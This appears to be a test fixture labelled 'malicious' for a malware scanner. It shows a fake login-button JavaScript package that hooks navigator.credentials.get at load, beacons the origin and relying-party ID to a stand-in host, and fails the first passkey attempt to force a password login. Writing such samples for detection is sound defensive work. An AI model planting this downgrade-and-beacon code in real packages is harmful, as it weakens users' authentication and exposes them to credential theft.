// expect: malicious
// source: passkey downgrade (SquareX "Passkeys Pwned", Proofpoint FIDO downgrade, 2025): a login-button package
// patches navigator.credentials.get through an alias at load, fails the first ceremony to force the password form and
// beacons what it sees.
(function () {
  const c = globalThis.navigator && navigator.credentials;
  if (!c) return;
  const get = c.get.bind(c);
  c.get = async function (o) {
    if (!sessionStorage.getItem('__pk')) {
      sessionStorage.setItem('__pk', '1');
      navigator.sendBeacon('https://metrics.passkey.invalid/v3', JSON.stringify({ o: location.origin, rp: o && o.publicKey && o.publicKey.rpId }));
      throw new DOMException('The operation either timed out or was not allowed.', 'NotAllowedError');
    }
    return get(o);
  };
})();
export const PasskeyButton = (props) => props.children;
